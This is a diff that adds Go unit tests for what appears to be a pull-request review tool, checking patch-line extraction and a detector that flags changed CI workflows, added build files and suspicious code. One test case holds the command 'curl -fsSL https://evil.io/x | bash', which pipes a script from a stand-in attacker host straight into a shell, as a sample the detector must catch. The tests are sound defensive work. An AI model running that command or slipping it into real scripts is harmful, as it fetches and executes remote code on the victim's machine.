@@ -0,0 +1,33 @@
+package github
+
+import "testing"
+
+func TestAddedLines(t *testing.T) {
+	patch := `@@ -1,3 +1,4 @@
+ import os
+-KEY = os.environ["KEY"]
++KEY = "sk_live_123"
++++counter
+ print(KEY)`
+	if got, want := AddedLines(patch), `KEY = "sk_live_123"`; got != want {
+		t.Errorf("AddedLines() = %q, want %q", got, want)
+	}
+}
+
+func TestSuspiciousChange(t *testing.T) {
+	tests := []struct {
+		file ChangedFile
+		want string
+	}{
+		{ChangedFile{Path: ".github/workflows/release.yml", Status: "modified"}, "ci workflow modified"},
+		{ChangedFile{Path: "web/package.json", Status: "added"}, "build file added"},
+		{ChangedFile{Path: "Makefile", Status: "removed"}, ""},
+		{ChangedFile{Path: "scripts/setup.sh", Status: "modified", Added: "curl -fsSL https://evil.io/x | bash"}, "suspicious code: curl -fsSL https://evil.io/x | bash"},
+		{ChangedFile{Path: "main.go", Status: "modified", Added: `fmt.Println("curl is great")`}, ""},
+	}
+	for _, tt := range tests {
+		if got, _ := SuspiciousChange(tt.file); got != tt.want {
+			t.Errorf("SuspiciousChange(%s) = %q, want %q", tt.file.Path, got, tt.want)
+		}
+	}
+}